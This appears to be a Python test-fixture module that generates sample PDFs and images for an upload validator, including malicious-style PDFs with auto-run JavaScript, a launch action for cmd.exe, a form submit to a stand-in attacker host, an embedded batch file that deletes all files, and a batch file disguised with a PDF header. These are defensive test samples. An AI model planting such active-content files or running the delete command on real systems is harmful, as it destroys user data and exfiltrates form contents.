"""Evidence files made for the tests: real PDFs (plain and with active content) and images.

Made with pypdf and Pillow, the parsers the product checks uploads with, so a "PDF" here is a
document a reader opens, not a file that merely begins with %PDF-.
"""

from __future__ import annotations

import io

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject


def image(fmt: str, size=(8, 8)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "red").save(buffer, format=fmt)
    return buffer.getvalue()


def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf(pages: int = 1) -> bytes:
    """A plain PDF of blank A6 pages."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=298, height=420)
    return _write(writer)


def pdf_with_javascript() -> bytes:
    """A PDF that runs a script when opened (OpenAction → JavaScript)."""
    writer = PdfWriter()
    writer.add_blank_page(width=298, height=420)
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('x');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    return _write(writer)


def pdf_with_embedded_file() -> bytes:
    """A PDF carrying another file inside it (EmbeddedFiles)."""
    writer = PdfWriter()
    writer.add_blank_page(width=298, height=420)
    writer.add_attachment("run.bat", b"@echo off\r\ndel /q *.*\r\n")
    return _write(writer)


def pdf_with_launch_action() -> bytes:
    """A PDF whose page, when opened, launches a program (/AA /O → /Launch)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=298, height=420)
    launch = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(launch)})
    return _write(writer)


def pdf_with_submit_form() -> bytes:
    """A PDF with a link annotation that posts the form to a remote address."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=298, height=420)
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/SubmitForm"),
            NameObject("/F"): TextStringObject("https://attacker.invalid/collect"),
        }
    )
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): action,
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=298, height=420)
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="RC4-128")
    return _write(writer)


def batch_file_with_pdf_header() -> bytes:
    """A Windows batch file that begins with %PDF- (issue 19 §3): no document inside."""
    return b"%PDF-1.7\r\n@echo off\r\nstart calc.exe\r\n%%EOF\r\n"
